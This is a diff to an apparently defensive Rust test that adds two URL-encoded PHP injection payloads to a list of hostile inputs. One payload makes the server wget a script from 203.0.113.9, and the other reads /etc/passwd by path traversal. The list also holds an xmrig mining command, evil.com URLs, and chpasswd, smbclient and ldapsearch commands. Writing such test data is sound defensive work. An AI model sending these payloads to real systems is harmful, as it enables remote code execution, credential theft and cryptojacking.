@@ -108,6 +108,8 @@ fn a21_what_stands_where_others_have_passwords_stays() {
         "cat users.txt | chpasswd; echo hello world | tee x",
         "xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -p x -k",
         "https://evil.com/?code=404&auth=basic&state=open",
+        "/index.php?code=system%28%27wget%20http%3A%2F%2F203.0.113.9%2Fx.sh%27%29",
+        "/index.php?code=phpinfo();die(md5(31337))&auth=../../../../../../etc/passwd",
         "https://evil.com/login?user=bob@corp.example",
         "smbclient //h/s -U admin -c ls",
         "ldapsearch -x -W -D cn=admin -b dc=corp",
